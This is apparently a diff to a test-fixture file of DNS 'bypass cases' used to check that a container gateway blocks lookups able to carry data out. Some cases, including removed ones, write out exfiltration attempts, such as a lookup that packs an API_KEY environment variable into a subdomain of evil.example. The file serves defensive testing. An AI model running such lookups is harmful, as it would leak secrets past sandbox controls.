@@ -2,7 +2,7 @@ import type { BypassCase } from '../bypass-case.ts'
 
 const undeclared = { blocked: 'which is not declared' }
 
-/** Lookups, which could carry data out of the container: the ways to ask. The gateway's own test tries the questions. */
+/** Lookups, which could carry data out of the container: the ways to ask. The gateway's own tests try the questions. */
 export const names: readonly BypassCase[] = [
   { tried: 'an undeclared name', attack: "look_up('evil.example')", ends: undeclared },
   {
@@ -13,22 +13,6 @@ export const names: readonly BypassCase[] = [
       link.sendall(struct.pack('>H', len(query)) + query)
       report = len(link.recv(512))`,
     ends: undeclared,
-  },
-  {
-    tried: 'a TXT record of a declared name',
-    attack: "dns('api.example.com', 16)",
-    ends: { reports: { code: 0, answers: 0 } },
-  },
-  {
-    tried: 'a placeholder in a name',
-    attack: "dns(os.environ['API_KEY'][:60] + '.' + 'a' * 60 + '.evil.example')",
-    ends: undeclared,
-  },
-  {
-    tried: 'a subdomain of a declared name, carrying data',
-    attack: "look_up('s3cr3t.api.example.com')",
-    ends: undeclared,
-    modes: ['socket'],
   },
   {
     tried: 'a name server of its own choice',
